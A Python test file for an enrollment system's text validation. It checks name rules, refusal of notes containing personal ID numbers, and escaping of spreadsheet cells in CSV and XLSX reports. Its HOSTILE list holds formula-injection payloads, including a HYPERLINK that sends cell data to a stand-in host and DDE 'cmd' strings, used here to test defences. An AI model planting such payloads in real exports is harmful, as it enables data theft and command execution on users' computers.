"""The text rules shared by every service: names, free text without personal IDs,
and cells that no spreadsheet program reads as a formula."""
import csv
import datetime as dt
import io

import marshmallow as ma
import pytest
from openpyxl import load_workbook

from services.common import text
from services.common.context import Actor
from services.confirmation.schemas import RevokeRequest
from services.enrollment import domain
from gateway import fileformat as ff
from services.enrollment.schemas import Removal
from services.registry.schemas import OrgUnitCreate
from gateway import render

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2"]


# -- names ----------------------------------------------------------------------------------

@pytest.mark.parametrize("name", HOSTILE + ["  =1+1", "โรงเรียน\x00", "ab\ncd", "1234", "สมชาย 3100600445635"])
def test_a_unit_name_follows_the_learner_name_rules(name):
    assert domain.name_problem is text.name_problem  # one rule for both
    assert text.name_problem(name) is not None
    with pytest.raises(ma.ValidationError) as err:
        OrgUnitCreate().load({"code": "S1", "name": name, "type": "school", "parent_id": 3})
    assert "name" in err.value.messages


@pytest.mark.parametrize("name", ["โรงเรียนบ้านดอน", "ศูนย์พัฒนาเด็กเล็ก (บ้านใหม่)", "School 2", "ณ อยุธยา"])
def test_ordinary_names_pass(name):
    assert text.name_problem(name) is None
    assert OrgUnitCreate().load({"code": "S1", "name": name, "type": "school", "parent_id": 3})["name"] == name


# -- free text ------------------------------------------------------------------------------

@pytest.mark.parametrize("value", [
    "ย้ายออก 3100600445635", "id 3-1006-00445-63-5", "3 1006 00445 63 5 moved", "๓๑๐๐๖๐๐๔๔๕๖๓๕",
    "1234567890123", "12345678901234567", "G-Code G644200000001", "g 6442 0000 0001",
])
def test_reasons_and_notes_with_a_personal_id_are_refused_naming_the_field(value):
    assert text.personal_id_problem(value) is not None
    with pytest.raises(ma.ValidationError) as err:
        RevokeRequest().load({"reason": value})
    assert list(err.value.messages) == ["reason"]
    with pytest.raises(ma.ValidationError) as err:
        Removal().load({"reason": "other", "note": value})
    assert list(err.value.messages) == ["note"]


@pytest.mark.parametrize("value", [
    "นับซ้ำ ต้องแก้ไขจำนวน", "โทร 081-234-5678", "วันที่ 10/06/2569 เลขที่หนังสือ 0808.2/ว 1234",
    "123456789012", "บ้านเลขที่ 12 หมู่ 3\nตำบลสุเทพ",
])
def test_ordinary_reasons_pass(value):
    assert text.personal_id_problem(value) is None
    assert RevokeRequest().load({"reason": value})["reason"] == value.strip()
    assert Removal().load({"reason": "other", "note": value})["note"] == value


# -- spreadsheet cells ----------------------------------------------------------------------

def test_text_that_starts_like_a_formula_gets_a_quote_and_numbers_stay_numbers():
    for value in HOSTILE:
        assert text.spreadsheet_cell(value) == "'" + value
    for value in (-5, -1.5, 0, 12, None, dt.date(2026, 6, 10), "-5", "+66812345678", "-1,234.50",
                  "สมชาย", "5-2", "a=b", ""):
        assert text.spreadsheet_cell(value) == value


def _table(names):
    columns = [{"key": "no", "label": "ที่", "type": "int", "group": None},
               {"key": "name", "label": "ชื่อหน่วยงาน", "type": "text", "group": None},
               {"key": "change", "label": "เปลี่ยนแปลง", "type": "int", "group": None}]
    rows = [[i, name, -i] for i, name in enumerate(names, start=1)]
    return {"key": "progress", "enclosure": None, "title": "รายงาน", "subtitle": [f"จังหวัด {names[0]}", names[0]],
            "sections": [{"name": names[0], "columns": columns, "rows": rows, "total": ["รวม", "", -len(rows)]}],
            "footer": [names[-1]]}


def test_report_csv_and_xlsx_carry_no_formula():
    table = _table(HOSTILE)
    rows = list(csv.reader(io.StringIO(render.to_csv(table).decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    for value in HOSTILE:
        assert "'" + value in cells
    assert all(not c.startswith(text.FORMULA_START) or c.lstrip("-").isdigit() for c in cells)
    assert [r[2] for r in rows if r and r[0].isdigit()] == [str(-i) for i in range(1, len(HOSTILE) + 1)]

    book = load_workbook(io.BytesIO(render.to_xlsx(table)))
    found = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    found[cell.value] = cell.data_type
                    assert not cell.value.startswith(text.FORMULA_START)
    for value in HOSTILE:
        assert found["'" + value.replace("\r", "\n")] == "s"   # XML reads a lone CR as LF
    numbers = [row[2] for row in book.worksheets[0].iter_rows(values_only=True) if isinstance(row[0], int)]
    assert numbers == [-i for i in range(1, len(HOSTILE) + 1)]   # negative numbers stay numbers


def test_learner_export_carries_no_formula():
    learner = {"id": 9, "national_id": "3100600445635", "g_code": None, "prefix": "-x",
               "first_name": HOSTILE[0], "last_name": "@SUM(A1)", "sex": "M", "birth_date": "2019-01-01",
               "grade": "k1", "nationality": "+ไทย"}
    rows = list(csv.reader(io.StringIO(b"".join(ff.csv_chunks(iter([[learner]]))).decode("utf-8-sig"))))
    record = dict(zip(rows[0], rows[1]))
    assert (record["prefix"], record["first_name"], record["last_name"], record["nationality"]) == \
        ("'-x", "'" + HOSTILE[0], "'@SUM(A1)", "'+ไทย")
    assert record["national_id"] == "3100600445635"
    out = io.BytesIO()
    ff.write_xlsx(iter([[learner]]), out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    cells = {sheet.cell(row=1, column=j).value: sheet.cell(row=2, column=j)
             for j in range(1, sheet.max_column + 1)}
    assert (cells["first_name"].value, cells["first_name"].data_type) == ("'" + HOSTILE[0], "s")
    assert (cells["last_name"].value, cells["prefix"].value) == ("'@SUM(A1)", "'-x")
    assert cells["learner_id"].value == 9 and cells["birth_date"].value.date() == dt.date(2019, 1, 1)


# -- what a duplicate refusal says -------------------------------------------------------------

def test_a_duplicate_refusal_names_the_holder_only_to_those_who_may_read_it():
    provinces = {7: {"id": 7, "code": "50", "name": "เชียงใหม่"}}
    own = {"id": 100, "path": "/1/7/42/100/"}
    sibling = (101, "/1/7/42/101/")
    elsewhere = (300, "/1/8/77/300/")
    school = Actor(5, "s", "institution", 100, own["path"])
    lao = Actor(6, "l", "lao", 42, "/1/7/42/")
    assert domain.holder_extra(school, own, 100, own["path"], provinces) == {"held_by": 100}
    chiangmai = {"held_in": {"code": "50", "name": "เชียงใหม่"}}
    assert domain.holder_extra(school, own, *sibling, provinces) == chiangmai
    assert domain.holder_extra(lao, own, *sibling, provinces) == {"held_by": 101}
    assert domain.holder_extra(lao, own, *elsewhere, provinces) == {"held_in": {"code": None, "name": None}}
    assert domain.holder_extra(Actor.system(), own, *elsewhere, provinces) == {"held_by": 300}
    message = domain.duplicate_message({"held_in": {"code": "50", "name": "เชียงใหม่"}}, 100)
    assert "เชียงใหม่" in message and "101" not in message
